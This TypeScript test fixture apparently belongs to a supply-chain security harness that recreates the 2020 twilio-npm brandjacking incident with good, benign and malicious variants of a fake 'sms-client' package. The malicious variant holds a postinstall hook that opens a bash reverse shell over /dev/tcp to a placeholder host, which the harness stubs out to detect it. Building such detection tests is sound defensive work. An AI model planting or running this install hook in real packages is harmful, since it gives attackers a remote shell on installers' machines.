import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'twilio-npm',
  after: 'twilio-npm, November 2020',
  source: 'https://www.sonatype.com/blog/twilio-npm-is-brandjacking-malware-in-disguise',
  shape: ['install', 'npm ci', 'no JavaScript at all', 'reverse shell'],
  patterns: ['privilege_escalation', 'data_exfiltration'],
  culprits: ['sms-client'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'sms-client': { 'index.js': 'exports.send = () => 1;' } },
  benign: { 'sms-client': { 'index.js': 'exports.send = () => 1;', 'README.md': '# sms' } },
  bad: {
    'sms-client': {
      'index.js': 'exports.send = () => 1;',
      'package.json': `{"scripts":{"postinstall":"bash -c 'bash -i >& /dev/tcp/@B@/@TCP@ 0>&1'"}}`,
    },
  },
  proof: [{ stub: '/dev/tcp/' }],
  stubs: { bash: '' },
};
